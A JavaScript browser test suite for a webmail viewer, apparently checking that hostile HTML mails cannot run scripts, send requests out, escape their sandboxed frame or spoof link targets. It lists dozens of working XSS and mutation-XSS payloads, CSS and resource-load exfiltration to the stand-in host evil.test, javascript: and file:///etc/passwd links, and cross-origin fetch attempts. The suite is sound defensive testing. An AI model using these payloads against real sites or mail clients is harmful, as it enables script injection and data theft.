// Mails made to attack whoever reads them. None of them may run a script, ask anybody for anything, leave the frame or
// look like a part of the page.

import assert from "node:assert/strict";
import { ORIGIN, Stage, api, deliver, htmlMail, mail } from "./stage.mjs";

/** The canary: if this runs, `stage.ran` has it. */
const RUN = "(window.canary||parent.canary||top.canary)(1)";
const AWAY = "https://evil.test";

/** Ways to run a script, by our own hand, by kind. */
const SCRIPTS = [
  // Plain, nested, broken and oddly written elements.
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=${AWAY}/a.js></script>`,
  `<script type=module>import "${AWAY}/a.js"</script>`,
  `<script type=importmap>{"imports":{"x":"${AWAY}/x.js"}}</script>`,
  `<script\u0000>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<title><a title="</title><img src onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<plaintext><script>${RUN}</script>`,
  `<!--><img src onerror=${RUN}>-->`,
  `<!--!><img src onerror=${RUN}>`,
  `<![CDATA[><img src onerror=${RUN}>]]>`,
  `<?xml version=1><img src onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  // Handlers, on what fires by itself.
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x onerror\u000c=${RUN}>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<video autoplay onloadstart=${RUN}><source onerror=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<div tabindex=0 autofocus onfocus=${RUN}>x</div>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>x</div><style>@keyframes x{}</style>`,
  `<div style="transition:color 1s;color:red" ontransitionrun=${RUN}>x</div>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=x onerror=${RUN}></object>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<div oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>x</div>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${RUN}>x</div>`,
  // Other languages inside HTML, and what parsers make of them the second time.
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=${AWAY}/a.js /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><style><!--</style><img src onerror=${RUN}>--></style></svg>`,
  `<svg></p><style><g title="</style><img src onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><annotation-xml encoding=text/html><img src onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<table><td><svg><desc><td><style><img title="</style><img src onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${RUN}>">`,
  // Frames and what stands for them.
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<fencedframe src="javascript:${RUN}"></fencedframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  // Styles that were code once, and attributes that are.
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(#x);-moz-binding:url(data:text/xml,x)">x</div>`,
  `<img src="javascript:${RUN}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img src="data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onload=${RUN}>`,
  `<table background="javascript:${RUN}"><td>x</td></table>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<base href="javascript:/a/-${RUN}//"><a href=.>x</a>`,
];

/** Ways to ask somebody else for something, or to go there, without a script. */
const REQUESTS = [
  `<img src=${AWAY}/a>`, `<img src=//evil.test/b>`, `<img src=/\\evil.test/c>`, `<img src="h\nttps://evil.test/d">`,
  `<img srcset="${AWAY}/a 1x, ${AWAY}/b 2x">`, `<picture><source srcset=${AWAY}/a><img src=x></picture>`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${AWAY}/c 1x">`, `<img lowsrc=${AWAY}/a dynsrc=${AWAY}/b>`,
  `<video src=${AWAY}/a poster=${AWAY}/b></video>`, `<audio src=${AWAY}/a autoplay></audio>`,
  `<video><track src=${AWAY}/a default></video>`, `<input type=image src=${AWAY}/a>`,
  `<body background=${AWAY}/a>`, `<table background=${AWAY}/a><tr background=${AWAY}/b><td background=${AWAY}/c>x</table>`,
  `<div style="background:url(${AWAY}/a)">x</div>`, `<div style="background:u\\72l(${AWAY}/b)">x</div>`,
  `<div style="background:image-set('${AWAY}/c' 1x)">x</div>`, `<div style="list-style-image:url('${AWAY}/d')">x</div>`,
  `<div style="content:url(${AWAY}/e);cursor:url(${AWAY}/f),auto;border-image:url(${AWAY}/g)">x</div>`,
  `<div style="filter:url(${AWAY}/h#x);mask:url(${AWAY}/i);shape-outside:url(${AWAY}/j)">x</div>`,
  `<div style="--x:url(${AWAY}/k);background:var(--x)">x</div>`,
  `<style>@import "${AWAY}/a";@font-face{font-family:x;src:url(${AWAY}/b)}body{font-family:x;background:url(${AWAY}/c)}</style>x`,
  `<style>input[value^=m]{background:url(${AWAY}/m)}:target{background:url(${AWAY}/t)}</style><input value=mf_secret>`,
  `<link rel=stylesheet href=${AWAY}/a>`, `<link rel=icon href=${AWAY}/a>`, `<link rel=manifest href=${AWAY}/a>`,
  `<link rel=prefetch href=${AWAY}/a><link rel=preload as=image href=${AWAY}/b><link rel=prerender href=${AWAY}/c>`,
  `<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=${AWAY}><link rel=modulepreload href=${AWAY}/d>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${AWAY}/a"]}]}</script>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}/a">`, `<meta http-equiv=Link content="<${AWAY}/a>;rel=preload">`,
  `<meta http-equiv=Content-Security-Policy content="img-src *"><img src=${AWAY}/a>`,
  `<base href=${AWAY}/><img src=a><a href=b>x</a>`,
  `<iframe src=${AWAY}/a></iframe><iframe srcdoc="<img src=${AWAY}/b>"></iframe>`,
  `<object data=${AWAY}/a></object><embed src=${AWAY}/b><applet code=${AWAY}/c></applet>`,
  `<svg><image href=${AWAY}/a xlink:href=${AWAY}/b /><use href=${AWAY}/c#x /><feImage href=${AWAY}/d /></svg>`,
  `<svg><style>@import url(${AWAY}/a)</style><rect fill="url(${AWAY}/b#x)"/></svg>`,
  `<math><mglyph src=${AWAY}/a></math>`, `<bgsound src=${AWAY}/a>`, `<frameset><frame src=${AWAY}/a></frameset>`,
  `<form action=${AWAY}/a><input name=x value=y autofocus></form><input form=f><button formaction=${AWAY}/b>x</button>`,
  `<html manifest=${AWAY}/a>`, `<a href=${AWAY}/a ping=${AWAY}/b attributionsrc=${AWAY}/c>x</a>`,
  `<img src=x attributionsrc=${AWAY}/a>`, `<q cite=${AWAY}/a>x</q><blockquote cite=${AWAY}/b>x</blockquote>`,
  `<img src=${ORIGIN}/api/v1/info>`, `<img src=/api/v1/mailbox>`, `<link rel=stylesheet href=/assets/x>`,
];

/** Links that lead nowhere, because where they lead is code. */
const LINKS = [
  `javascript:${RUN}`, ` java\nscript:${RUN}`, `JaVaScRiPt:${RUN}`, `&#106;avascript:${RUN}`, `java&Tab;script:${RUN}`,
  `\u0001javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  `vbscript:${RUN}`, `blob:${ORIGIN}/x`, `filesystem:${ORIGIN}/x`, `view-source:${ORIGIN}`, "file:///etc/passwd",
  `feed:javascript:${RUN}`, `about:blank`, `//evil.test/x`, `/api/v1/mailbox`, `#top`, `mhtml:${AWAY}/x`, `intent:x`,
];

/** HTML as bytes that no server looks at, so that it comes as it is. */
const encoded = (subject, content) =>
  htmlMail(subject, Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\n"), "Content-Transfer-Encoding: base64\n");

/** Opens one mail after the other and looks at each. */
async function each(browser, mails, look) {
  const stage = await Stage.open(browser);
  const address = await stage.create();
  for (const [at, content] of mails.entries()) {
    const subject = `mail number ${at}.`;
    await deliver(address, encoded(subject, content));
    await stage.read(subject);
    await look(stage, content);
    stage.calm();
  }
  assert.equal(stage.page.url(), `${ORIGIN}/`);
  assert.deepEqual(stage.opened, []);
}

/** Clicks and moves the pointer over everything in the frame: what waits for that gets it. */
async function touch(stage) {
  const frame = await stage.frame();
  const count = await frame.locator("body *").count();
  for (let at = 0; at < Math.min(count, 4); at++) {
    const element = frame.locator("body *").nth(at);
    await element.hover({ force: true, timeout: 1000 }).catch(() => {});
  }
  return frame;
}

/** All attacks of a list together in few mails, and each in one of its own: either way nothing of it lives. */
const joined = (list) => [`<p>x</p>${list.join("<p>x</p>\n")}`, `<table><td>${[...list].reverse().join("")}`];

/** What looks for scripts and requests does find them, where nobody stops them. */
export async function the_canary_sings(browser) {
  const stage = await Stage.open(browser);
  const page = await stage.context.newPage();
  await page.setContent(`<img src=x: onerror=${RUN}><iframe srcdoc="<script>${RUN}</script>"></iframe><img src=${AWAY}/a>`);
  await page.waitForFunction(() => document.readyState === "complete");
  assert.equal(stage.ran.length, 2);
  assert.deepEqual(stage.foreign, [`${AWAY}/a`]);
}

export async function l1_no_script_runs(browser) {
  await each(browser, [...SCRIPTS, ...joined(SCRIPTS)], async (stage, content) => {
    const frame = await touch(stage);
    const html = await frame.content();
    const found = html.replace(/<head>.*<\/head>/s, "").match(/<(script|iframe|object|embed|svg|math|style|meta|base|form|link)\b|\son\w+=|javascript:/i);
    // Quoted text of the mail may say anything; markup may not.
    const live = await frame.evaluate(() => [...document.body.querySelectorAll("*")].some((it) => [...it.attributes].some((a) => a.name.startsWith("on") || /^\s*(javascript|vbscript):/i.test(a.value))
      || /^(script|iframe|object|embed|svg|math|style|meta|base|form|link)$/i.test(it.localName)));
    assert.equal(live, false, `${content}: ${found}`);
  });
}

export async function l2_nothing_leaves(browser) {
  await each(browser, [...REQUESTS, ...joined(REQUESTS)], async (stage, content) => {
    await touch(stage);
    const own = stage.requests.filter((request) => {
      const frame = request.serviceWorker() ? null : request.frame();
      return frame && frame !== stage.page.mainFrame() && !new URL(request.url()).pathname.startsWith("/view/") && /^https?:/.test(request.url());
    });
    assert.deepEqual(own.map((request) => request.url()), [], content);
  });
}

export async function l4_attachments_are_saved_and_never_shown(browser) {
  const stage = await Stage.open(browser);
  const { page } = stage;
  const address = await stage.create();
  const files = [
    ["picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`],
    ["page.html", "text/html", `<script>${RUN}</script><img src=${AWAY}/a>`],
    ["a.png", "text/html", `<script>${RUN}</script>`],
    ["sheet.xml", "text/xml", `<?xml-stylesheet href="${AWAY}/x.xsl"?><x/>`],
    ["archive.mht", "application/x-mimearchive", `<script>${RUN}</script>`],
    ["paper.pdf", "application/pdf", "%PDF-1.4"],
  ];
  const parts = files.map(([name, kind, content]) => `--b\nContent-Type: ${kind}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${content}\n`);
  await deliver(address, mail("Files", `--b\n\nSee the files.\n${parts.join("")}--b--\n`, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n"));
  await stage.read("Files");
  for (const [name] of files) {
    const save = page.locator(".files button", { hasText: "Save" }).and(page.getByRole("button", { name: `Save: ${name}` }));
    const [file] = await Promise.all([page.waitForEvent("download"), save.click()]);
    assert.ok(file.url().startsWith("blob:"), file.url());
    assert.equal(await file.failure(), null);
    assert.equal(page.url(), `${ORIGIN}/`);
  }
  assert.deepEqual(stage.opened, []);
  stage.calm();
}

/** Names, subjects and files of strangers are text in the list, in the title and everywhere. */
export async function l5_names_are_text(browser) {
  const stage = await Stage.open(browser);
  const { page } = stage;
  const address = await stage.create();
  const evil = `</script><img src=x onerror=${RUN}><svg onload=${RUN}>`;
  const reversed = "\u202egnp.exe\u202c {n} {from} __proto__ $& \u0000 \u200f";
  const attacks = [evil, `"><script>${RUN}</script>`, `javascript:${RUN}`, reversed];
  for (const attack of attacks) {
    const word = `=?utf-8?B?${Buffer.from(attack).toString("base64")}?=`;
    const file = `filename*=utf-8''${encodeURIComponent(attack)}`;
    await deliver(address, `From: ${word} <x@evil.test>\nSubject: ${word}\nX-${"a"}: ${evil}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Transfer-Encoding: base64\n\n${Buffer.from(attack).toString("base64")}\n--b\nContent-Type: text/html\nContent-Disposition: attachment; ${file}\n\n${evil}\n--b--\n`);
  }
  await stage.until((count) => document.querySelectorAll(".row").length === count, attacks.length);
  assert.equal(await page.locator(".row .what").last().textContent(), evil);
  assert.equal(await page.locator(".row .who").last().textContent(), evil);
  for (let at = 0; at < attacks.length; at++) {
    await page.locator(".row").nth(at).click();
    await page.locator(".row").nth(at).and(page.locator("[aria-current=true]")).waitFor();
    await page.locator(".files li").waitFor();
    for (const way of ["headers", "source", "text"]) {
      await page.locator(`[data-way=${way}]`).click();
      await page.locator(`[data-way=${way}][aria-pressed=true]`).waitFor();
    }
  }
  const strange = await page.evaluate(() => document.querySelectorAll("main img, main script, main svg [onload], main [onerror]").length);
  assert.equal(strange, 0);
  stage.calm();
}

/** Links: those that are code are gone; of the others the page says where they lead. */
export async function l6_links_are_what_they_say(browser) {
  const mails = LINKS.map((link) => `<a id=link href="${link}">https://bank.test/login</a> and text`);
  await each(browser, mails, async (stage, content) => {
    const frame = await stage.frame();
    await frame.getByText("https://bank.test/login").click();
    assert.equal(await frame.locator("[href]").count(), 0, content);
  });
  const stage = await Stage.open(browser);
  const address = await stage.create();
  // What is no address at all hides nothing else.
  for (const [at, broken] of ["https://[", "https://%", "http://a:b:c/", "https://"].entries()) {
    const subject = `Verify your address ${at}.`;
    await deliver(address, htmlMail(subject, `<p>Verify your address:</p><a href="${broken}verify?token=Zk39fQx81LmN02pQ">Verify my address</a>`));
    await stage.read(subject);
    await stage.frame();
  }
  await deliver(address, htmlMail("Please verify", "<p>Verify your address:</p><a href='https://bank.test@evil.test/verify?token=Zk39fQx81LmN02pQ'>Verify at https://bank.test</a><a href='https://b%C3%A4nk.test/verify?token=Zk39fQx81LmN02pQ'>Verify my address</a>"));
  await stage.read("Please verify");
  const hosts = await stage.page.locator(".links strong").allTextContents();
  assert.ok(hosts.length > 0 && hosts.every((host) => ["evil.test", "xn--bnk-qla.test"].includes(host)), `the true hosts: ${hosts}`);
  const frame = await stage.frame();
  for (const link of await frame.locator("a").all()) {
    assert.deepEqual([await link.getAttribute("rel"), await link.getAttribute("target")], ["noopener noreferrer nofollow", "_blank"]);
  }
  stage.calm();
}

/** What lies over everything lies over the mail only, and the frame knows nothing of the page around it. */
export async function l7_a_mail_stays_in_its_frame(browser) {
  const stage = await Stage.open(browser);
  const { page } = stage;
  const address = await stage.create();
  const token = await stage.token();
  await deliver(address, htmlMail("Overlay", `<div style="position:fixed;inset:0;z-index:2147483647;background:#f00;width:9999px;height:9999px;margin:-5000px"><a href="${AWAY}/login">Sign in again</a></div>
    <style>:root{position:fixed}*{z-index:9}</style><p id=x>text</p>`));
  await stage.read("Overlay");
  const element = await page.locator("iframe").elementHandle();
  const frame = await stage.frame();
  assert.equal(await element.getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
  assert.equal(await frame.evaluate(() => origin), "null");
  const html = await frame.content();
  assert.ok(!html.includes(token) && !html.includes("mf_") && !frame.url().includes(token));
  assert.ok(!/position|z-index/.test(html.replace(/<head>.*<\/head>/s, "")), html);
  // The page's own buttons are still what is under the pointer.
  const erase = await page.getByRole("button", { name: "Erase" }).boundingBox();
  const hit = await page.evaluate(([x, y]) => document.elementFromPoint(x, y).closest("button")?.textContent, [erase.x + 20, erase.y + 10]);
  assert.equal(hit, "Erase");
  // The ticket is for a frame of ours, and for nothing else.
  const ticket = frame.url();
  for (const [path, status] of [[ticket, 200], [`${ticket}x`, 404], [ticket.replace("/view/", "/api/v1/messages/"), 401]]) {
    const answer = await fetch(path);
    assert.equal(answer.status, status, path);
  }
  const used = await fetch(`${ORIGIN}/api/v1/mailbox`, { headers: { Authorization: `Bearer ${ticket.split("/").pop()}` } });
  assert.equal(used.status, 404);
  await api("DELETE", "/api/v1/messages/1", token);
  assert.equal((await fetch(ticket)).status, 404);
  stage.calm();
}

/** Pages of another origin can neither read, nor change, nor frame anything. */
export async function m5_other_origins_get_nothing(browser) {
  const stage = await Stage.open(browser);
  const address = await stage.create();
  const token = await stage.token();
  await deliver(address, htmlMail("Private", "<p>secret words</p>"));
  await stage.read("Private");
  const view = (await stage.frame()).url();
  const context = await browser.newContext();
  const stranger = await context.newPage();
  // Another port is another origin; the name is another site.
  await context.route("http://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: "<!doctype html><title>evil</title>" }));
  await stranger.goto("http://evil.test/");
  const told = await stranger.evaluate(async ([origin, token, view]) => {
    const attempts = {
      read: () => fetch(`${origin}/api/v1/info`),
      withToken: () => fetch(`${origin}/api/v1/messages`, { headers: { Authorization: `Bearer ${token}` } }),
      create: () => fetch(`${origin}/api/v1/mailboxes`, { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }),
      erase: () => fetch(`${origin}/api/v1/mailbox`, { method: "DELETE", headers: { Authorization: `Bearer ${token}` } }),
      frame: () => fetch(view),
    };
    const results = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      results[name] = await attempt().then((answer) => answer.text(), () => "refused");
    }
    const blind = await fetch(`${origin}/api/v1/mailboxes`, { method: "POST", mode: "no-cors", body: "{}" }).then((answer) => answer.type, () => "refused");
    return { ...results, blind };
  }, [ORIGIN, token, view]);
  assert.deepEqual(new Set(Object.values(told)), new Set(["refused"]), JSON.stringify(told));
  for (const address of [ORIGIN, view]) {
    await stranger.evaluate((address) => new Promise((loaded) => {
      const frame = document.createElement("iframe");
      frame.onload = loaded;
      frame.src = address;
      document.body.append(frame);
    }), address);
    const framed = stranger.frames().at(-1);
    assert.ok(!(await framed.content()).includes("secret words") && !/mayfly\b/.test(await framed.title()), framed.url());
  }
  assert.equal((await api("GET", "/api/v1/messages", token)).messages.length, 1);
  await context.close();
  stage.calm();
}
